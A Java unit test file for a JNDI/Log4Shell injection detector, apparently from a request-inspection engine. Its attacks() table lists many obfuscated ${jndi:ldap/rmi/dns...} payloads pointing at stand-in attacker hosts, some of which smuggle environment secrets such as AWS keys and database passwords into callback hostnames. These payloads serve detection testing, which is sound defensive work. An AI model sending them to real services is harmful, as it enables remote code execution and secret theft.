package ai.traceable.tme.engine.detect.jndi;

import static org.assertj.core.api.Assertions.assertThat;

import ai.traceable.tme.engine.detect.Detector;
import ai.traceable.tme.engine.detect.DetectorHarness;
import ai.traceable.tme.engine.detect.DetectorHarness.Report;
import ai.traceable.tme.engine.detect.DetectorTableTest;
import ai.traceable.tme.engine.inspect.Placement;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.provider.Arguments;

class JndiDetectorTest extends DetectorTableTest {
  private static final JndiDetector DETECTOR = new JndiDetector();

  @Override
  protected Detector detector() {
    return DETECTOR;
  }

  static Stream<Arguments> attacks() {
    return Stream.of(
        a(Placement.HEADER, "${jndi:ldap://203.0.113.9:1389/Exploit}", "jndi-100"),
        a(Placement.HEADER, "${jndi:rmi://203.0.113.9:1099/obj}", "jndi-100"),
        a(Placement.HEADER, "${jndi:dns://x.dnslog.example/}", "jndi-100"),
        a(
            Placement.HEADER,
            "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://evil.example.net/x}",
            "jndi-100"),
        a(
            Placement.HEADER,
            "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://203.0.113.9/poc}",
            "jndi-100"),
        a(
            Placement.HEADER,
            "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.exfil.example.net/a}",
            "jndi-100"),
        a(
            Placement.HEADER,
            "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example.net/t}",
            "jndi-100"),
        a(
            Placement.HEADER,
            "${jndi:${lower:l}${lower:d}${lower:a}${lower:p}://evil.example.net/}",
            "jndi-100"),
        a(Placement.HEADER, "${${upper:j}ndi:ldap://evil.example.net/a}", "jndi-100"),
        a(Placement.HEADER, "${jndi:ldaps://evil.example.net/a}", "jndi-100"),
        a(Placement.HEADER, "${jndi:iiop://evil.example.net/a}", "jndi-100"),
        a(Placement.HEADER, "Bearer ${jndi:ldap://evil.example.net/auth}", "jndi-100"),
        a(Placement.HEADER, "${jndi:ldap://127.0.0.1#evil.example.net:1389/a}", "jndi-100"),
        a(
            Placement.HEADER,
            "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil.example.net/a}",
            "jndi-100"),
        a(Placement.HEADER, "${jndi:dns://${hostName}.evil.example.net}", "jndi-100"),
        a(
            Placement.HEADER,
            "${jndi:ldap://${sys:user.name}:${env:DB_PASSWORD}@evil.example.net/a}",
            "jndi-100"),
        a(
            Placement.HEADER,
            "${${base64:JHtqbmRpOmxkYXA6Ly9ldmlsLmV4YW1wbGUubmV0L2F9}}",
            "jndi-102"),
        a(Placement.HEADER, "${jndi:nis://evil.example.net/a}", "jndi-100"),
        a(Placement.HEADER, "${jndi:http://evil.example.net/a}", "jndi-100"),
        a(Placement.HEADER, "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example.net%2Fc%7D", "jndi-100"),
        a(
            Placement.QUERY,
            "%2524%257Bjndi%253Aldap%253A%252F%252Fevil.example.net%252Fa%257D",
            "jndi-100"),
        a(
            Placement.QUERY,
            "%24%7B%24%7Blower%3Ajndi%7D%3A%24%7Blower%3Armi%7D%3A%2F%2Fevil.example.net%2Fk%7D",
            "jndi-100"),
        a(Placement.PATH, "/api/$%7Bjndi:ldap://evil.example.net/p%7D/items", "jndi-100"),
        a(Placement.JSON, "${${lower:jndi}:${lower:rmi}://evil.example.net/d}", "jndi-100"),
        a(Placement.JSON, "\\u0024\\u007bjndi:ldap://evil.example.net/j\\u007d", "jndi-100"),
        a(Placement.TEXT, "client error: ${jndi:ldap://evil.example.net/t}", "jndi-100"),
        a(Placement.HEADER, "${${::-${::-$}{::-j}}ndi:ldap://x.y/z}", "jndi-101"),
        a(Placement.HEADER, "${jNdI:LdAp://x.y/z}", "jndi-100"),
        a(Placement.HEADER, "${${lower:${lower:jndi}}:${lower:ldap}://x/}", "jndi-100"),
        a(Placement.HEADER, "${j${::-n}d${upper:i}:l${lower:D}ap://x/}", "jndi-100"),
        a(Placement.HEADER, "${jndi:${::-l}${::-d}${::-a}${::-p}://x/}", "jndi-100"),
        a(Placement.HEADER, "${${::-J}ndi:ldap://x/}", "jndi-100"),
        a(
            Placement.HEADER,
            "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//attacker.com/a}",
            "jndi-100"),
        a(Placement.HEADER, "${${::-j}ndi:rmi://198.51.100.7:1099/Exploit}", "jndi-100"),
        a(
            Placement.HEADER,
            "${${lower:J}${lower:N}${lower:D}${lower:I}:${lower:L}${lower:D}${lower:A}${lower:P}://x.example/a}",
            "jndi-100"),
        a(
            Placement.HEADER,
            "${${upper:j}${upper:n}${upper:d}${upper:i}:dns://x.example}",
            "jndi-100"),
        a(Placement.HEADER, "X-Api ${jndi:ldap://198.51.100.7/${java:version}}", "jndi-100"),
        a(Placement.HEADER, "${jndi:corba://x.example/a}", "jndi-100"),
        a(Placement.HEADER, "${jndi:nds://x.example/a}", "jndi-100"),
        a(
            Placement.HEADER,
            "${${env:ENV_NAME:-j}ndi${env:ENV_NAME:-:}${env:ENV_NAME:-l}dap${env:ENV_NAME:-:}//x.example/a}",
            "jndi-100"),
        a(
            Placement.HEADER,
            "${${sys:nope:-j}${sys:nope:-n}${sys:nope:-d}${sys:nope:-i}:ldap://x.example/z}",
            "jndi-100"),
        a(
            Placement.QUERY,
            "%24%7B%24%7B%3A%3A-j%7Dndi%3Aldap%3A%2F%2Fx.example%2Fq%7D",
            "jndi-100"),
        a(Placement.HEADER, "${jndi:ldap://x.example/${ctx:loginId}}", "jndi-100"),
        a(Placement.HEADER, "${${main:x:-j}ndi:ldap://x.example/m}", "jndi-100"),
        a(Placement.HEADER, "${ jndi:ldap://x.example/space}", "jndi-100"),
        a(Placement.JSON, "{\"user\":\"${jndi:rmi://x.example/o}\"}", "jndi-100"),
        a(Placement.HEADER, "${jndi:ldap://x.example:1389/${hostName}}", "jndi-100"),
        a(
            Placement.HEADER,
            "%2524%257B%2524%257Blower%253Aj%257Dndi%253Aldap%253A%252F%252Fx.example%252Fdd%257D",
            "jndi-100"),
        a(Placement.HEADER, "${jndi:ldap:/x.example/a}", "jndi-100"),
        a(Placement.HEADER, "${${::-j}nd${::-i}:ldap://x}", "jndi-100"),
        a(Placement.HEADER, "${${sys:sun.cpu.isalist}jndi:ldap://x}", "jndi-100"),
        a(Placement.HEADER, "$%7Bjndi:ldap://x%7D", "jndi-100"),
        a(Placement.HEADER, "${\\u006a\\u006e\\u0064\\u0069:ldap://x}", "jndi-100"),
        a(Placement.HEADER, "${jndi:rmi://[::1]:1099/a}", "jndi-100"),
        a(Placement.HEADER, "${${lower:jnd}${lower:i}:ldap://x}", "jndi-100"),
        a(Placement.HEADER, "${${lower:${lower:jndi}}:${lower:rmi}://x}", "jndi-100"),
        a(Placement.HEADER, "${${env:ENV_NAME:-j}ndi:ldap://x}", "jndi-100"),
        a(Placement.HEADER, "${jndi:ldap://x.example/${env:HOSTNAME}}", "jndi-100"),
        a(
            Placement.HEADER,
            "${${::-J}${::-N}${::-D}${::-I}:${::-L}${::-D}${::-A}${::-P}://x/}",
            "jndi-100"),
        a(Placement.HEADER, "${${upper:${::-j}}ndi:ldap://x/}", "jndi-100"),
        a(Placement.HEADER, "${${date:'J'}ndi:ldap://x/}", "jndi-100"),
        a(Placement.HEADER, "${ ${lower:j}ndi:ldap://x/}", "jndi-100"),
        a(Placement.HEADER, "${jndi:${lower:ldap}://x/}", "jndi-100"),
        a(Placement.HEADER, "${jndi:dns://x/}${jndi:ldap://y/}", "jndi-100"),
        a(Placement.HEADER, "aaaa ${jndi:ldap://x/} bbbb", "jndi-100"),
        a(Placement.HEADER, "${jndi:ldap://x/} ${jndi:rmi://y/}", "jndi-100"));
  }

  static Stream<Arguments> benign() {
    return Stream.of(
        b(Placement.HEADER, "${HOME}"),
        b(Placement.JSON, "Total ${price}"),
        b(Placement.JSON, "${user.name}"),
        b(Placement.JSON, "Use ${HOME:-/root} as default; ${PATH} too"),
        b(Placement.JSON, "spring.datasource.url=${DB_URL:jdbc:postgresql://localhost:5432/app}"),
        w(Placement.JSON, "<File name=\"App\" fileName=\"${sys:log.dir}/app.log\"/>", "jndi-110"),
        b(Placement.JSON, "Talk on ${topic}: JNDI LDAP injection explained"),
        b(Placement.JSON, "Read about jndi:ldap:// attacks"),
        b(Placement.JSON, "const tpl = `Hello ${user.name}, you have ${count} new messages`;"),
        b(Placement.JSON, "echo \"${GREETING:-hello} ${USER}\""),
        b(Placement.JSON, "Dear ${firstName} ${lastName},"),
        b(Placement.JSON, "price: ${amount} USD"),
        b(Placement.JSON, "- run: echo \"sha=${{ github.sha }}\" >> $GITHUB_OUTPUT"),
        b(Placement.JSON, "path=${project.basedir}/target"),
        b(Placement.JSON, "<version>${log4j.version}</version>"),
        b(Placement.JSON, "The Log4j jndi lookup was disabled in 2.16"),
        b(Placement.JSON, "java.naming.provider.url=ldap://ldap.example.com:389"),
        b(Placement.QUERY, "$100 {discount}"),
        b(
            Placement.HEADER,
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36"),
        b(Placement.COOKIE, "theme=dark; lang=en"),
        b(Placement.JSON, "${a}${b}${c}"),
        b(Placement.JSON, "Use ${env.HOME} in Maven"),
        b(Placement.JSON, "${date}"),
        b(Placement.JSON, "${lower}"),
        b(Placement.JSON, "{{ jndi }}"),
        b(Placement.JSON, "I moved from JNDI to Spring config: ${spring.datasource.url}"));
  }

  @Test
  void bareContextLookupIsAProbe() {
    for (String v :
        new String[] {
          "${env:AWS_SECRET_ACCESS_KEY}",
          "${sys:java.version}",
          "${java:version}",
          "${ctx:loginId}",
          "${main:0}",
          "${k8s:namespace}",
          "${hostName}"
        }) {
      Report outcome = DetectorHarness.run(DETECTOR, Placement.HEADER, v);
      assertThat(outcome.ids(1)).as(v).containsExactly("jndi-110");
      assertThat(outcome.score(1)).as(v).isEqualTo(3);
    }
  }

  @Test
  void spellingLookupWithoutJndiIsAProbe() {
    Report outcome = DetectorHarness.run(DETECTOR, Placement.HEADER, "${lower:X}${::-y}");
    assertThat(outcome.ids(1)).containsExactly("jndi-111");
  }

  @Test
  void jndiOfAnUnknownTargetIsAnError() {
    Report outcome = DetectorHarness.run(DETECTOR, Placement.HEADER, "${jndi:foo:bar}");
    assertThat(outcome.ids(1)).containsExactly("jndi-103");
  }

  @Test
  void resolverSeesThroughNestedLookups() {
    LookupResolver.Resolution o =
        LookupResolver.resolve("${${lower:${upper:j}}${::-n}${date:'d'}${env:X:-i}:ldap://h/}");
    assertThat(o.jndiAt).isZero();
    assertThat(o.jndiTarget).isEqualTo("ldap://h/");
    assertThat(o.jndiProtocol).isTrue();
  }

  @Test
  void resolverDecodesBase64() {
    LookupResolver.Resolution o = LookupResolver.resolve("${${base64:JHtqbmRpOnJtaTovL2gvYX0=}}");
    assertThat(o.viaBase64).isTrue();
    assertThat(o.jndiTarget).isEqualTo("rmi://h/a");
  }

  @Test
  void ordinaryValuesReportNothing() {
    for (String v : new String[] {"42", "john@example.com", "/api/v1/users", "", "$", "${"}) {
      assertThat(DetectorHarness.run(DETECTOR, Placement.QUERY, v).findings()).isEmpty();
    }
  }
}
